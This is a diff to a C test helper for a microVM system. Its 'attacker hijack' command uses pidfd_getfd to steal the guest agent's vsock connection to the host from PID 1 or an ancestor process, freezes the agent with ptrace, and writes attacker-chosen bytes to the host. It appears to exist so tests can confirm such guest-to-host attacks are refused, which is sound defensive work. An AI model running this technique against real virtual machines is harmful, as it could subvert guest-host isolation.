@@ -17,10 +17,13 @@
  *                                status port (0x444), with `enable` first
  *                                asking for the port with ioperm(2)
  *   attacker hijack MODE         take the guest agent's vsock connection to
- *                                the host out of PID 1 (pidfd_getfd, as a
- *                                guest root that owns the guest could),
- *                                freeze the agent (ptrace), and write
- *                                MODE's bytes to the host on it
+ *                                the host out of the agent (pidfd_getfd, as
+ *                                a guest root that owns the guest could):
+ *                                PID 1 for mvm run, or in a sandbox the
+ *                                agent's process for this command, an
+ *                                ancestor of ours; freeze that process
+ *                                (ptrace), and write MODE's bytes to the
+ *                                host on it
  *
  * Each prints one line saying what happened, so that a test can tell "the
  * attack was refused" from "the attack never ran".
@@ -197,31 +200,74 @@ static int write_all(int fd, const unsigned char *buf, size_t len)
     return 0;
 }
 
-/* The agent's connection: a connected vsock stream whose peer is the host. */
-static int steal_host_connection(void)
+/* The parent of `pid`, from /proc/PID/stat ("PID (COMM) STATE PPID ..."),
+ * or 0. */
+static int parent_of(int pid)
 {
-    int pidfd = (int)syscall(SYS_pidfd_open, 1, 0);
-    if (pidfd < 0) {
-        printf("hijack: pidfd_open(1): %s\n", strerror(errno));
+    char path[64], line[512];
+    snprintf(path, sizeof path, "/proc/%d/stat", pid);
+    FILE *f = fopen(path, "r");
+    if (!f)
+        return 0;
+    char *ok = fgets(line, sizeof line, f);
+    fclose(f);
+    char *close_paren = ok ? strrchr(line, ')') : NULL;
+    int ppid = 0;
+    if (!close_paren || sscanf(close_paren + 1, " %*c %d", &ppid) != 1)
+        return 0;
+    return ppid;
+}
+
+/* A connected vsock stream of process `pid` whose peer is the host, or -1
+ * (with *denied set when pidfd_getfd said EPERM). */
+static int host_connection_of(int pid, int *denied)
+{
+    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
+    if (pidfd < 0)
         return -1;
-    }
     for (int target = 0; target < 1024; target++) {
         int fd = (int)syscall(SYS_pidfd_getfd, pidfd, target, 0);
         if (fd < 0) {
             if (errno == EPERM) {
-                printf("hijack: pidfd_getfd: %s\n", strerror(errno));
-                return -1;
+                printf("hijack: pidfd_getfd(%d): %s\n", pid, strerror(errno));
+                *denied = 1;
+                break;
             }
             continue;
         }
         struct sockaddr_vm peer;
         socklen_t len = sizeof peer;
         if (getpeername(fd, (struct sockaddr *)&peer, &len) == 0 &&
-            peer.svm_family == AF_VSOCK && peer.svm_cid == VMADDR_CID_HOST)
+            peer.svm_family == AF_VSOCK && peer.svm_cid == VMADDR_CID_HOST) {
+            close(pidfd);
             return fd;
+        }
         close(fd);
     }
-    printf("hijack: no vsock connection to the host in PID 1\n");
+    close(pidfd);
+    return -1;
+}
+
+/* The agent's connection and the process that holds it: PID 1 (mvm run's
+ * agent), else the nearest ancestor of ours that holds one (a sandbox's
+ * agent serves each command from a process forked for it). */
+static int steal_host_connection(int *owner)
+{
+    int denied = 0;
+    int fd = host_connection_of(1, &denied);
+    if (fd >= 0) {
+        *owner = 1;
+        return fd;
+    }
+    for (int pid = getppid(); pid > 1 && !denied; pid = parent_of(pid)) {
+        fd = host_connection_of(pid, &denied);
+        if (fd >= 0) {
+            *owner = pid;
+            return fd;
+        }
+    }
+    if (!denied)
+        printf("hijack: no vsock connection to the host in PID 1 or an ancestor\n");
     return -1;
 }
 
@@ -264,7 +310,8 @@ static int cmd_hijack(const char *mode)
     } else {
         return usage();
     }
-    int fd = steal_host_connection();
+    int agent = 0;
+    int fd = steal_host_connection(&agent);
     if (fd < 0)
         return 1;
     printf("hijack: freezing the agent, then writing %zu bytes (%s) to the host "
@@ -278,8 +325,8 @@ static int cmd_hijack(const char *mode)
      * The agent relays our output no more, so say how that went in a
      * Stderr frame of our own. */
     char said[160];
-    if (ptrace(PTRACE_SEIZE, 1, NULL, NULL) == 0 &&
-        ptrace(PTRACE_INTERRUPT, 1, NULL, NULL) == 0)
+    if (ptrace(PTRACE_SEIZE, agent, NULL, NULL) == 0 &&
+        ptrace(PTRACE_INTERRUPT, agent, NULL, NULL) == 0)
         snprintf(said, sizeof said, "hijack: the agent is stopped\n");
     else
         snprintf(said, sizeof said, "hijack: cannot stop the agent: %s\n", strerror(errno));
